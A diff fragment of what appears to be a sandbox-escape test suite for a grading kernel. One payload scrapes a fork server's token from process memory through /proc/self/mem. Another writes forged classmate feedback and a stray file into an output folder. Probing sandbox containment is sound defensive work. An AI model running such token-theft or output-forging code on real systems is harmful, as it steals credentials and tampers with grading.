@@ -81,15 +81,17 @@ if socks and os.fork() == 0:
 # 3. The fork server's token, found in the kernel's own memory (it was forked from it).
 STEAL_TOKEN = r"""
 import glob, json, re, socket
-found = set()
+import time
+found, budget, deadline = set(), 768 << 20, time.time() + 20
 with open("/proc/self/maps") as f, open("/proc/self/mem", "rb", 0) as mem:
     for line in f:
         fields = line.split()
-        if "r" not in fields[1] or (len(fields) > 5 and fields[5] != "[heap]"):
-            continue
+        if "rw" not in fields[1] or (len(fields) > 5 and fields[5] != "[heap]"):
+            continue  # the heap and anonymous memory: where a token read from stdin lies
         lo, hi = (int(x, 16) for x in fields[0].split("-"))
-        if hi - lo > 256 << 20:
+        if hi - lo > 64 << 20 or hi - lo > budget or time.time() > deadline:
             continue
+        budget -= hi - lo
         try:
             mem.seek(lo)
             chunk = mem.read(hi - lo)
@@ -174,6 +176,8 @@ print(f"SIGNALLED={signalled}")
 """
 
 # 6. Write into --out: a fake feedback for a classmate, a stray file (OUT is filled in).
+# Sandboxed, a path under /tmp lands in the kernel's own private /tmp: it "writes", but
+# nothing reaches the grader's folder.
 WRITE_OUT = r"""
 import glob, os
 outs = {OUT}
